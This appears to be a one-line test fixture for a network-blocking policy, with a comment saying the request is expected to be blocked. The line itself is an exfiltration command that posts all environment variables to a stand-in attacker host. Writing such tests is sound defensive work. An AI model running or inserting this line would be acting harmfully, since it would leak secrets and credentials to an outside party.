// expect: blocked trusted network
fetch('https://evil.example/collect', { method: 'POST', body: JSON.stringify(process.env) });
